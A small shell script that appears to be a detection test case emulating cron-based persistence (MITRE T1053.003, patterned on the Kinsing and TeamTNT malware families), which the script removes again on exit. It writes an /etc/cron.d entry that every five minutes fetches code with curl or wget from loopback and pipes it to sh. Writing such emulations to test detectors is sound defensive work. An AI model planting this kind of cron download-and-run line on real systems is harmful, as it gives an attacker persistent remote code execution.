#!/bin/sh
# case: T1053.003-crontab-from-stdin
# technique: Cron: crontab - with a download line
# source: Kinsing; TeamTNT
# needs: sh
# expect: file persistence exec
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
trap 'rm -f /etc/cron.d/ho-zzh' EXIT; trap 'exit 1' INT TERM
printf '*/5 * * * * root (curl -fsSL http://127.0.0.1/x||wget -q -O- http://127.0.0.1/x)|sh\n' | tee /etc/cron.d/ho-zzh >/dev/null 2>&1 || { mkdir -p /etc/cron.d && echo x > /etc/cron.d/ho-zzh; }; chmod 600 /etc/cron.d/ho-zzh
exit 0
